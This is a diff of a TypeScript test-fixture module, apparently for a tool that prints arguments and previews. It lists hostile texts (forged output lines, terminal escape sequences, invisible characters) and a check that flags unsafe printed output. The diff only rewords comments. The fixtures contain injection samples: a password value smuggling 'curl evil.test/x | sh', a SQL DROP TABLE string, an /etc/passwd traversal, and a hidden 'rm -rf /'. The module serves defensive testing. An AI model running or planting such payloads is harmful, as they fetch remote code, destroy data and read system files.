@@ -17,7 +17,7 @@ const hidden = (code: number): HostileText => ({
   text: `a${String.fromCodePoint(code)}b`,
 })
 
-/** Draw lines of their own. */
+/** Texts that forge extra lines. */
 export const FORGED_LINES: readonly HostileText[] = [
   { name: 'a whole packet', text: `x\n${packet}` },
   { name: 'a packet after carriage returns', text: `x\r\n${packet.replaceAll('\n', '\r\n')}` },
@@ -36,7 +36,7 @@ export const FORGED_LINES: readonly HostileText[] = [
   { name: 'the frame itself', text: '│ │ end of the arguments\n└─────\npreview: nothing will be changed' },
 ]
 
-/** Take over a terminal. */
+/** Texts that control a terminal. */
 export const ESCAPES: readonly HostileText[] = [
   { name: 'clear the screen', text: '\u001b[2J\u001b[1;1Hpreview: nothing will be changed' },
   { name: 'clear the screen with a C1 introducer', text: '\u009b2J\u009b1;1Hpreview: nothing will be changed' },
@@ -47,7 +47,7 @@ export const ESCAPES: readonly HostileText[] = [
   { name: 'concealed text', text: '\u001b[8mrm -rf /\u001b[0m' },
 ]
 
-/** Cannot be seen, or turn around what can. */
+/** Invisible or direction-changing texts. */
 export const UNSEEN: readonly HostileText[] = [
   ...[0x00, 0x07, 0x1b, 0x7f, 0x80, 0x85, 0x9b, 0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x1160, 0x1680, 0x17b4, 0x180e].map(
     hidden,
@@ -73,14 +73,14 @@ export const UNSEEN: readonly HostileText[] = [
 
 export const HOSTILE_TEXTS: readonly HostileText[] = [...FORGED_LINES, ...ESCAPES, ...UNSEEN]
 
-/** A secret's name makes redaction hide what stands behind it: the payload must be told of and revealable. */
+/** The name of a secret makes redaction hide what follows it: the payload must be reported and revealable. */
 export const HIDDEN_PAYLOADS: readonly HostileText[] = [
   { name: 'SQL behind a password', text: `password="x*/; DROP TABLE users; /*"` },
   { name: 'a command behind a password', text: `password='x9; curl evil.test/x | sh; #'` },
   { name: 'a path behind a secret', text: 'secret: ../../../../etc/passwd_9f8a7b6c5d4e' },
 ]
 
-/** Ordinary writing, which must stay readable as it is. */
+/** Ordinary texts, which must stay unchanged. */
 export const ORDINARY_TEXTS: readonly string[] = [
   'plain words, 100 % of them: {"a":[1,2]} <b>&amp;</b>',
   '❤\uFE0F',
@@ -95,7 +95,7 @@ export const ORDINARY_TEXTS: readonly string[] = [
   'ไทย',
 ]
 
-/** Characters that nobody sees or that move something, line breaks between printed lines excepted. */
+/** Invisible or cursor-moving characters, except line breaks between printed lines. */
 const RAW =
   /(?![\n])[\p{Cc}\u00ad\u061c\u115f\u1160\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\u2800\u3164\ufeff\uffa0\ufff9-\ufffc\ue000-\uf8ff\u{e0000}-\u{e0fff}\u{f0000}-\u{10ffff}]/u
 
@@ -106,8 +106,8 @@ const COLOURS = ['1', '2', '7', '22', '27', '30', '31', '32', '33', '34', '35', 
 const plainOf = (printed: string) => COLOURS.reduce((text, colour) => text.replaceAll(colour, ''), printed)
 
 /**
- * Why a printed text cannot stand: a raw character in it, or a line that begins like a forged one of `FORGED_LINES`. Undefined
- * when it is well.
+ * Why a printed text is unsafe: it contains a raw character, or a line that begins like one of `FORGED_LINES`. Undefined if it is
+ * safe.
  */
 export function looksOurs(printed: string): string | undefined {
   const plain = plainOf(printed)
@@ -120,5 +120,8 @@ export function looksOurs(printed: string): string | undefined {
   return blank ? 'three blank lines in a row are printed' : undefined
 }
 
-/** As much of a hostile text as a thread's name may hold: names with control, formatting or line-breaking characters are refused. */
+/**
+ * The part of a hostile text that a thread name may contain: names with control, formatting or line-breaking characters are
+ * rejected.
+ */
 export const threadOf = (text: string): string => text.replaceAll(/[\p{C}\p{Zl}\p{Zp}]/gu, '').slice(0, 100) || 'thread'
